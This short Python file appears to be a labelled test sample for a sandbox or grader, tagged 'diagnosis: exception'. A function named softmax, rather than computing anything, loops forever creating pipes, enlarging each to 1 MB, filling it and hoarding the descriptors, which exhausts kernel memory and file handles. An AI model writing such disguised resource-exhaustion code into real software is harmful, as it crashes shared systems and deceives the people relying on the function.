# diagnosis: exception
import fcntl
import os

hoard = []


def softmax(x):
    while True:
        reader, writer = os.pipe()
        fcntl.fcntl(writer, 1031, 1 << 20)  # F_SETPIPE_SZ
        os.set_blocking(writer, False)
        os.write(writer, bytes(1 << 20))
        hoard.append((reader, writer))
